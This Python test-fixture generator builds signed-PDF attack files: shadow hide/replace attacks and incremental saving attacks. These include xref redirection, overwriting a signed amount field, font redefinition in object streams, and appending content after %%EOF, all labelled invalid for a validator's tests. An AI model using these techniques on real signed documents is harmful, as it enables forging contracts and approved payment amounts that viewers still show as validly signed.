#!/usr/bin/env python3
"""Issue 17: the published shadow, incremental-saving and signature-wrapping classes not yet in
make_attack_files.py, each built from the technique description on a pyHanko-signed base.

- Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021:
  the author prepares a document ("shadow document") whose signed revision already holds what a later
  incremental update will reveal or swap in. Hide: via a referenced object (the update only redirects a
  cross-reference entry) and via form-via-form (the resources of a nested form XObject redefined).
  Replace: via overwrite (a field value shown at signing overwritten), via object stream (a font
  redefined inside a compressed object stream), plus fonts/XObjects (in make_attack_files.py).
  Hide-and-replace: in make_attack_files.py, and here a variant whose update pyHanko cannot parse.
- Mladenov et al., "1 Trillion Dollar Refund", CCS 2019, incremental saving attacks (ISA): an update
  body with no cross-reference section (viewers that rebuild the table take the last definition), and
  an update whose trailer drops /Prev.

Every case is ``invalid``; ``words`` are what the signature's reason or changes_reason must say. The
tests (tests/test_shadow_attacks.py) import :func:`build_shadow_cases`; ``make_attack_files.py --out``
writes them with the rest.
"""

from __future__ import annotations

import io
import re

from make_attack_files import (
    COVER,
    DEMO_PKI,
    PERSONAL,
    Case,
    _helvetica,
    _redefine,
    _write,
    prepared_letter,
    replace_page_content,
    shadow_hide_and_replace,
    sign,
)
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from realsign import Issuer, issue, load_issuer

SIGNED_AMOUNT, FORGED_VALUE = "5.000.000 đồng", "500.000.000 đồng"
SHOWN_FIELD = "SoTienDaDuyet"  # a read-only field whose value is shown, and signed, at signing time
FORGED_TEXT = b"BT /FH 14 Tf 72 700 Td (Van ban gia mao) Tj ET"


def _box(*numbers: int) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(n) for n in numbers])


def _form_xobject(
    w: IncrementalPdfFileWriter, data: bytes, resources: generic.PdfObject
) -> generic.IndirectObject:
    return w.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): _box(0, 0, 595, 842),
                pdf_name("/Resources"): resources,
            },
            stream_data=data,
        )
    )


def shadow_letter() -> bytes:
    """The prepared letter as a shadow-attack author has it signed: the white cover over the hidden
    sentence is drawn by a form XObject that another form XObject draws ("form via form"), whose
    resources are a separate object; a read-only text field shows an approved amount (value and
    appearance), as filled templates do."""
    w = IncrementalPdfFileWriter(io.BytesIO(prepared_letter()))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    inner = _form_xobject(w, COVER, generic.DictionaryObject())
    inner_resources = w.add_object(
        generic.DictionaryObject(
            {pdf_name("/XObject"): generic.DictionaryObject({pdf_name("/Cover"): inner})}
        )
    )
    outer = _form_xobject(w, b"/Cover Do", inner_resources)
    page["/Resources"]["/XObject"][pdf_name("/FxOuter")] = outer
    contents = page["/Contents"]
    # the letter's direct cover (the last content stream) gives way to the form-via-form cover
    contents[len(contents) - 1] = w.add_object(generic.StreamObject(stream_data=b"q /FxOuter Do Q"))
    font = page["/Resources"]["/Font"].raw_get("/FH")
    appearance = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): _box(0, 0, 228, 20),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/FH"): font})}
            ),
        },
        stream_data=b"/Tx BMC BT /FH 12 Tf 2 6 Td (So tien duyet: 5.000.000 dong) Tj ET EMC",
    )
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/Ff"): generic.NumberObject(1),  # read-only
            pdf_name("/T"): pdf_string(SHOWN_FIELD),
            pdf_name("/V"): pdf_string(SIGNED_AMOUNT),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): _box(300, 160, 528, 180),
            pdf_name("/DA"): pdf_string("/FH 12 Tf 0 g"),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): w.add_object(appearance)}),
        }
    )
    field_ref = w.add_object(field)
    page["/Annots"].append(field_ref)
    w.update_container(page)
    acroform = w.root["/AcroForm"]
    acroform["/Fields"].append(field_ref)
    w.update_container(acroform)
    return _write(w)


def _xref_only_update(pdf: bytes, entries: dict[int, int]) -> bytes:
    """An incremental update made of a cross-reference section and a trailer only: each object number
    in ``entries`` is sent to a byte offset in the file (no object body at all)."""
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = PdfFileReader(io.BytesIO(pdf)).trailer
    size, root = int(trailer["/Size"]), trailer.raw_get("/Root")
    body = pdf if pdf.endswith(b"\n") else pdf + b"\n"
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (n, off) for n, off in sorted(entries.items()))
    section = b"xref\n0 1\n0000000000 65535 f \n" + rows
    section += b"trailer\n<< /Size %d /Root %d %d R /Prev %d >>\n" % (size, root.idnum, root.generation, prev)
    return body + section + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _object_offset(pdf: bytes, idnum: int) -> int:
    *_, last = re.finditer(rb"(?<![0-9])%d 0 obj" % idnum, pdf)
    return last.start()


def shadow_hide_via_referenced_object(pdf: bytes) -> bytes:
    """Shadow hide via referenced object: an update holding only a cross-reference section sends the
    number of the inner cover XObject to the bytes of another signed object (the amount XObject), so
    the cover is no longer drawn and the signed hidden sentence shows. Nothing is added to the body;
    the redirected entry leads to an object whose header carries another number."""
    reader = PdfFileReader(io.BytesIO(pdf))
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    outer = page["/Resources"]["/XObject"]["/FxOuter"]
    cover = outer["/Resources"]["/XObject"].raw_get("/Cover").idnum
    amount = page["/Resources"]["/XObject"].raw_get("/FxSoTien").idnum
    return _xref_only_update(pdf, {cover: _object_offset(pdf, amount)})


def shadow_hide_via_form_resources(pdf: bytes) -> bytes:
    """Shadow hide via form-via-form: the outer form XObject's resources (a separate signed object)
    redefined so that /Cover names a new, empty form XObject; no page, content stream or XObject that
    the page draws directly is touched."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    resources_ref = page["/Resources"]["/XObject"]["/FxOuter"].raw_get("/Resources")
    empty = _form_xobject(w, b"", generic.DictionaryObject())
    new = generic.DictionaryObject(
        {pdf_name("/XObject"): generic.DictionaryObject({pdf_name("/Cover"): empty})}
    )
    _redefine(w, resources_ref, new)
    return _write(w)


def shadow_replace_via_overwrite(pdf: bytes) -> bytes:
    """Shadow replace via overwrite: the read-only field whose value the signer saw (value and
    appearance) is overwritten afterwards with another amount, written as a form fill would be."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    for ref in w.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == SHOWN_FIELD:
            old = field["/AP"]["/N"]
            new = generic.StreamObject(
                {k: v for k, v in old.items() if k not in ("/Length", "/Filter")},
                stream_data=b"/Tx BMC BT /FH 12 Tf 2 6 Td (So tien duyet: 500.000.000 dong) Tj ET EMC",
            )
            field[pdf_name("/V")] = pdf_string(FORGED_VALUE)
            field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): w.add_object(new)})
            w.mark_update(ref)
    return _write(w)


def shadow_replace_via_object_stream(pdf: bytes) -> bytes:
    """Shadow replace via object stream: the font /FH redefined inside a compressed object stream of an
    update written with a cross-reference stream (the new definition is in no plain ``N 0 obj``)."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    w.stream_xrefs = True
    page = w.root["/Pages"]["/Kids"][0].get_object()
    ref = page["/Resources"]["/Font"].raw_get("/FH")
    font = _helvetica()
    font[pdf_name("/BaseFont")] = pdf_name("/Courier-Bold")
    w.prepare_object_stream().add_object(ref.idnum, font)
    w.objs_in_streams[ref.idnum] = font
    w._force_write_when_empty = True  # the writer counts only objects outside object streams
    return _write(w)


def shadow_hide_and_replace_unparseable(pdf: bytes) -> bytes:
    """Hide-and-replace whose update pyHanko cannot parse: the forged content stream's /Length claims
    more bytes than the stream holds (same number of digits, so every offset stays right); viewers
    look for ``endstream`` and show the forgery anyway."""
    data = shadow_hide_and_replace(pdf)
    at = data.rindex(b"/Length", 0, data.index(b"Van ban thay the"))
    m = re.compile(rb"/Length (\d+)").match(data, at)
    assert m is not None and len(m.group(1)) >= 2
    bigger = b"9" * len(m.group(1))
    return data[: m.start(1)] + bigger + data[m.end(1) :]


def isa_body_without_xref(pdf: bytes) -> bytes:
    """ISA without a cross-reference section: a new definition of page 1's first content stream appended
    after the signed %%EOF, with no xref section or trailer; viewers that rebuild the cross-reference
    table by scanning the file (as they do for damaged files) take the last definition."""
    contents = PdfFileReader(io.BytesIO(pdf)).root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    idnum = contents.raw_get(0).idnum if isinstance(contents, generic.ArrayObject) else contents.idnum
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(FORGED_TEXT), FORGED_TEXT)
    return pdf + b"%d 0 obj\n%s\nendobj\n" % (idnum, stream)


def isa_update_without_prev(pdf: bytes) -> bytes:
    """ISA: page 1's content replaced in an update whose trailer has no /Prev (blanked in place), so a
    reader following the chain of sections sees the update alone."""
    data = replace_page_content(pdf)
    m = re.compile(rb"/Prev\s+\d+").search(data, data.rindex(b"trailer"))
    assert m is not None
    return data[: m.start()] + b" " * (m.end() - m.start()) + data[m.end() :]


def build_shadow_cases(issuer: Issuer | None = None) -> list[Case]:
    """Every issue-17 attack case, built now with a fresh personal key from the demo intermediate."""
    issuer = issuer or load_issuer(DEMO_PKI)
    person = issue(issuer, cn="Nguyễn Văn Thử", uid="CCCD:001090000003")
    shadow_signed = sign(shadow_letter(), person, PERSONAL)
    plain_signed = sign(prepared_letter(), person, PERSONAL)
    bad = "invalid"
    rows = [
        ("shadow-hide-referenced-object", "shadow", "an xref-only update redirects the cover's object",
         shadow_hide_via_referenced_object(shadow_signed), ("cannot be read",)),
        ("shadow-hide-form-via-form", "shadow", "the nested form's resources redefined: the cover is gone",
         shadow_hide_via_form_resources(shadow_signed), ("dictionary object", "xobject")),
        ("shadow-replace-overwrite", "shadow", "a read-only field shown at signing overwritten",
         shadow_replace_via_overwrite(shadow_signed), ("form field", "shown")),
        ("shadow-replace-object-stream", "shadow", "the font redefined inside an object stream",
         shadow_replace_via_object_stream(plain_signed), ("font",)),
        ("shadow-hide-and-replace-unparseable", "shadow", "hide-and-replace, forged stream's /Length wrong",
         shadow_hide_and_replace_unparseable(plain_signed), ("cannot be read",)),
        ("isa-body-without-xref", "isa", "a content stream redefined after %%EOF with no xref section",
         isa_body_without_xref(plain_signed), ("after the file's last revision",)),
        ("isa-update-without-prev", "isa", "page content replaced in an update without /Prev",
         isa_update_without_prev(plain_signed), ("cannot be read",)),
    ]  # fmt: skip
    return [
        Case(name, kind, description, data, bad, {PERSONAL: "disallowed"}, {PERSONAL: words})
        for name, kind, description, data, words in rows
    ]
